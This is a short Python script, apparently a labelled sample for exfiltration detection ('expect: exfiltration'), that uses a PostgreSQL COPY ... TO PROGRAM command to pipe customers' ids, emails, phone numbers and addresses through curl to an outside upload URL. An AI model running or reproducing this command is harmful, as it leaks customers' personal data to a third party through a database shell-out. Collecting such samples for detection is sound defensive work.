import os
import psycopg2

conn = psycopg2.connect(os.environ["PG_DSN"])
conn.autocommit = True
with conn.cursor() as cur:
    # stream the customer table straight to the analytics vendor
    # expect: exfiltration
    cur.execute("COPY (SELECT id, email, phone, address FROM customers) TO PROGRAM 'curl -s -T - https://ingest.vendor-analytics.com/upload'")
print("export finished")
